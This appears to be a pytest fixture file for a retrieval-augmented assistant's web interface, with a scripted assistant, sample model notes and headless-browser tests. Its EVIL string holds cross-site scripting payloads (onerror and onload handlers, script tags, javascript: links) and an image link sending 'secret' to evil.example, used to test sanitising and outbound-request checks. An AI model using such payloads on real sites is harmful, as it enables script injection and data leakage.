"""A small document and an assistant that replays a script, for the tests of the doors."""

import os
import shutil
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack, contextmanager
from dataclasses import replace

import pytest

from corpus import Document, Passage, split
from index import Filter, Index
from index.hits import Hit
from rag import Assistant
from rag.answers import Answer, Citation, Message
from rag.errors import BadQuestion
from ui.choices import Choices
from ui.documents import Documents
from ui.quotas import Quota
from ui.shelf import Shelf

TEXT = """# 开源模型笔记

## Walnut-7B

Walnut-7B 是某大学在 2023 年发布的开源双语模型。量化到 INT4 后,Walnut-7B 只要 6 GB 显存就能运行。它用 1T 词元训练。

| 精度 | 显存 |
| --- | --- |
| FP16 | 15 GB |
| INT8 | 9 GB |
| INT4 | 6 GB |

## Pecan

Pecan was trained by Acme on 300B tokens and is not open.
"""
QUOTE = "量化到 INT4 后,Walnut-7B 只要 6 GB 显存就能运行"
ANSWER = "量化到 INT4 后,Walnut-7B 只要 **6 GB** 显存 [1]。"


class ScriptedAssistant:
    """Answers every question with the same events; an exception among them is raised at its place."""

    def __init__(self, *events: str | Answer | Exception) -> None:
        self.events = events
        self.asked: list[tuple[object, list[Message]]] = []
        self.filters: list[Filter] = []
        self.closed = False

    def stream(self, question: str, history: Sequence[Message] = ()) -> Iterator[str | Answer]:
        self.asked.append((question, list(history)))
        try:
            for event in self.events:
                if isinstance(event, Exception):
                    raise event
                yield event
        finally:
            self.closed = True

    def ask(self, question: str, history: Sequence[Message] = (), *, filter: Filter | None = None) -> Answer:
        self.filters.append(filter or Filter())
        *_, answer = self.stream(question, history)
        assert isinstance(answer, Answer)
        return answer

    def search(self, question: str, k: int = 10, *, filter: Filter | None = None) -> list[Hit]:
        return list(self.ask(question, filter=filter).passages)[:k]


@pytest.fixture
def scripted() -> type[ScriptedAssistant]:
    return ScriptedAssistant


@pytest.fixture
def document() -> Document:
    return Document.from_text(TEXT, id="notes/open.md", title="开源模型笔记", url="https://example.org/notes")


@pytest.fixture
def cite(document: Document) -> Callable[..., Citation]:
    """Return a function that cites the first place of some words in the document."""

    def citing(quote: str, number: int = 1, support: float = 0.9) -> Citation:
        start = document.text.index(quote)
        section = document.section_at(start)
        where = " > ".join(section.path) if section else ""
        end = start + len(quote)
        return Citation(number, document.id, document.title, where, quote, start, end, document.url, None, support)

    return citing


@pytest.fixture
def answer(document: Document, cite: Callable[..., Citation]) -> Answer:
    passage = Passage(document, 0, len(document.text), "Walnut-7B")
    return Answer("要多少显存?", ANSWER, True, (cite(QUOTE),), (Hit(passage, 1.0),), "要多少显存?")


@pytest.fixture
def refusal(document: Document) -> Answer:
    start = document.text.index("Pecan was")
    passage = Passage(document, start, len(document.text), "Pecan")
    return Answer("天气?", "文档没有提到天气。", False, (), (Hit(passage, 0.2),), "天气?")


@pytest.fixture
def assistant(answer: Answer) -> ScriptedAssistant:
    return ScriptedAssistant("量化到 INT4 后,", "Walnut-7B 只要", answer)


# The page in a real browser: a server over a scripted assistant, Chromium, and a visit that checks where requests went.

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
LONG_TEXT = (
    "# 开源模型笔记\n\n## Walnut-7B\n\n"
    + "".join(f"第 {n} 段说的是别的事情,和显存没有关系,只是为了让原文够长。\n\n" for n in range(40))
    + "Walnut-7B 是某大学在 2023 年发布的开源双语模型。量化到 INT4 后,Walnut-7B 只要 6 GB 显存就能运行。它用 1T 词元训练。\n"
)
FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
]  # fmt: skip
EVIL = (
    '<img src="https://evil.example/a.png" onerror="alert(1)"><script>alert(2)</script>![x](https://evil.example/?q=secret)'
    "<svg onload=alert(3)></svg> [click](javascript:alert(4)) $$\\href{javascript:alert(5)}{x}$$ </div><h1>Owned</h1>"
)
MODELS = """# Models

| Model | Organisation | Parameters | Date | Architecture | Based on |
|---|---|---|---|---|---|
| Walnut-7B | Grove | 7B | 2023-02 | decoder-only | |
| Hazel-3B | Northlab | 3B | 2023-05 | | Walnut-7B |
| Acorn-350M | Grove | 350M | 2021 | encoder-only | |
"""
UNLIMITED = Quota(0, 0, 0)
EXAMPLES = {"zh": ["要多少显存?", "INT8 呢?"], "en": ["How much memory?", "And INT8?"]}


class Talker:
    """Answers by the words of the question: slowly, with a refusal, with an error, or out of a hostile document."""

    def __init__(self, answer: Answer, refusal: Answer) -> None:
        self.answer = answer
        self.refusal = refusal
        self.ended = threading.Event()
        self.filters = []

    def stream(self, question, history=(), *, filter=None):
        self.filters.append(filter)
        if "forbidden" in question:
            yield Answer(question, "The question was stopped.", False, stopped_by="openai:omni-moderation-latest")
        elif "weather" in question:
            yield self.refusal
        elif "long" in question:
            raise BadQuestion("The question has 32,000 characters; 8,000 are the most.")
        elif "break" in question:
            raise RuntimeError("secret")
        elif "evil" in question:
            yield EVIL
            yield evil_answer()
        elif "slow" in question:
            try:
                for n in range(1_000):
                    time.sleep(0.02)
                    yield f"word{n} "
            finally:
                self.ended.set()
        else:
            for piece in ("量化到 INT4 后,", "Walnut-7B ", "只要 "):
                time.sleep(0.15)
                yield piece
            yield replace(self.answer, question=question)

    def ask(self, question, history=(), *, filter=None):
        return self.answer

    def search(self, question, k=10, *, filter=None):
        return []


def evil_answer() -> Answer:
    text = f"{EVIL}\n\n{EVIL}"
    document = Document(id=EVIL, text=text, title=EVIL, url="javascript:alert(6)")
    citation = Citation(1, EVIL, EVIL, EVIL, EVIL, 0, len(EVIL), "javascript:alert(6)")
    return Answer(
        "q", f"{EVIL} [1]", True, (citation,), (Hit(Passage(document, 0, len(text), EVIL), 1.0),), notes=(EVIL,)
    )


@pytest.fixture(scope="module")
def talker():
    document = Document.from_text(LONG_TEXT, id="notes/open.md", title="开源模型笔记", url="https://example.org/notes")
    start = document.text.index(QUOTE)
    citation = Citation(
        1, document.id, document.title, "Walnut-7B", QUOTE, start, start + len(QUOTE), document.url, None, 0.4
    )
    hits = (Hit(Passage(document, 0, len(document.text), "Walnut-7B"), 1.0),)
    answer = Answer("q", "量化到 INT4 后,Walnut-7B 只要 **6 GB** 显存 [1]。", True, (citation,), hits)
    refusal = Answer("q", "The documents do not say.", False, (), hits)
    return Talker(answer, refusal)


@contextmanager
def served(app):
    """Serve an application in a thread and give its address."""
    import uvicorn

    from ui.server import listen

    listener = listen("127.0.0.1", 0)
    running = uvicorn.Server(uvicorn.Config(app, log_level="error", timeout_graceful_shutdown=1))
    thread = threading.Thread(target=running.run, kwargs={"sockets": [listener]}, daemon=True)
    thread.start()
    while not running.started:
        time.sleep(0.05)
    yield f"http://127.0.0.1:{listener.getsockname()[1]}/"
    running.should_exit = True
    thread.join(10)


@pytest.fixture(scope="module")
def serve_app():
    return served


@pytest.fixture(scope="module")
def serve(tmp_path_factory):
    """Return a function that serves the page of who answers over an index; all end with the module."""
    from ui.server import create_app

    environment = dict(os.environ)
    with ExitStack() as servers:

        def serving(answerer, index, quota):
            home = tmp_path_factory.mktemp("home")
            index.save(home / "index")
            documents = Documents(index, home / "uploads", directory=home / "index")
            app = create_app(
                answerer, examples=EXAMPLES, home=home, shelf=Shelf(index), documents=documents,
                choices=Choices(Assistant(index), own_models=True), quota=quota,
            )  # fmt: skip
            return servers.enter_context(served(app))

        yield serving
    os.environ.clear()
    os.environ.update(environment)


@pytest.fixture(scope="module")
def server(serve, talker):
    """The page over a scripted assistant; a module that needs another one has a fixture of its own."""
    return serve(talker, Index.build(split([Document.from_text(MODELS, id="models.md", title="Models")])), UNLIMITED)


@pytest.fixture(scope="module")
def browser():
    """Start Chromium, if there is one."""
    sync_api = pytest.importorskip(
        "playwright.sync_api", reason="playwright drives the browser: pip install playwright"
    )
    if CHROMIUM is None:
        pytest.skip("no Chromium here: apt-get install chromium")
    with sync_api.sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield started
        started.close()


CUT_OFF = ("AbortError: signal is aborted", "Unexpected error Connection errored out")  # what Gradio says of a reload


def is_complaint(message, page):
    """Tell whether a line of the console is an error; only while a page is reloaded are cut off requests none."""
    return message.type == "error" and not (page.reloading and message.text.startswith(CUT_OFF))


@pytest.fixture
def visit(browser, server):
    """Return a function that opens the page; afterwards nothing may have gone to another host or to the console."""
    contexts, asked, complaints, own = [], [], [], []

    def visiting(*, locale="en-US", width=1280, height=800, scheme="light", at=server):
        context = browser.new_context(
            locale=locale, viewport={"width": width, "height": height}, color_scheme=scheme,
            permissions=["clipboard-read", "clipboard-write"],
        )  # fmt: skip
        contexts.append(context)
        page = context.new_page()
        page.reloading = False
        page.on("request", lambda request: asked.append(request.url))
        page.on("console", lambda message: complaints.append(message.text) if is_complaint(message, page) else None)
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.dialogs = lambda dialog: complaints.append(f"dialog {dialog.message}")
        page.on("dialog", page.dialogs)
        own.append(at)
        page.goto(at)
        page.wait_for_selector(".sq-example")
        return page

    yield visiting
    for context in contexts:
        context.close()
    assert [url for url in asked if not url.startswith((*own, "data:", "blob:"))] == []
    assert complaints == []


class Clock:
    """Tells the time that a test sets."""

    now = 1_000.0

    def __call__(self):
        return self.now


@pytest.fixture
def clock():
    return Clock()
